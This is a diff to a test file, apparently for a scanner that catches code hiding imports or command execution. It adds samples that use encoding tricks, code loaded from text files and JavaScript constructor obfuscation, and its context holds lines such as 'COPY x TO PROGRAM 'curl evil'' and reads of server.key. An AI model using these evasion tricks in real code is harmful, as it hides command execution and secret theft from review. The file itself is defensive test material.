@@ -174,6 +174,8 @@ def test_a_kind_that_is_not_known_is_not_looked_into(path: str) -> None:
 
 
 DETOURS = [
+    ("a.py", "# coding: utf-7\n# +AAo-import os"),
+    ("a.py", "# -*- coding: unicode_escape -*-\n# \\nimport os"),
     ("a.py", "# x\rimport subprocess"),
     ("a.py", "x = f'''\n# {__import__('os')}\n'''"),
     ("a.py", "import random\nrandom._os.system('id')"),
@@ -233,6 +235,10 @@ DETOURS = [
     ("a.java", 'URI.create("x").toURL().openStream();'),
     ("a.swift", 'let s = """\n// \\(Process())\n"""'),
     ("a.cs", 'var s = $@"\n// {System.Diagnostics.Process.Start(x)}\n";'),
+    ("a.rs", '#[path = "notes.txt"] mod a;'),
+    ("a.rb", "load './notes.txt'"),
+    ("a.php", "include __DIR__ . '/notes.txt';"),
+    ("a.lua", "dofile('notes.txt')"),
     ("a.sql", "COPY x TO PROGRAM 'curl evil';"),
 ]
 
@@ -260,6 +266,8 @@ def test_code_that_looks_like_a_detour_is_left_alone(path: str, text: str) -> No
 def test_a_program_of_javascript_reads_no_file_by_an_error_in_it() -> None:
     assert scan_javascript_program("require('./server.key')")
     assert scan_javascript_program("arguments[1](name)")
+    assert scan_javascript_program("const k = 'constr'.concat('uctor'); const f = (() => 1)[k]; f(text)()")
+    assert scan_javascript_program("const a = 'constr'; const { [a]: f } = () => 1")
     assert not scan_javascript_program("console.log(require('./package.json').version, require('./src/a'))")
 
 
